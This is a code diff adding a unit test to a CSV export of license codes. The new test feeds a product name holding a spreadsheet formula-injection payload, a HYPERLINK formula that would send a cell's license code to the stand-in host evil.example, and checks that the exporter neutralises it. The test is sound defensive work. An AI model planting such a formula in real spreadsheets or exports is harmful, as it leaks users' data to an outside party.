@@ -52,4 +52,9 @@ describe('the CSV of new codes', () => {
   it('has a header and one line per TAN, codes shown in groups of 4, text quoted where needed', () => {
     expect(tansCsv([tan]).split('\r\n')).toEqual(['code,product,licenseCount,freeUpdatesUntil,tags', 'abcd-efgh-jkmn,"Studio ""Pro"" 2.0",5,2027-01-31,fair:2026 Müller', '']);
   });
+
+  it('never lets a spreadsheet run a product name as a formula', () => {
+    const line = tansCsv([{ ...tan, productName: '=HYPERLINK("https://evil.example/?c="&A2,"Update") 1.0' }]).split('\r\n')[1];
+    expect(line).toBe(`abcd-efgh-jkmn,"'=HYPERLINK(""https://evil.example/?c=""&A2,""Update"") 1.0",5,2027-01-31,fair:2026 Müller`);
+  });
 });
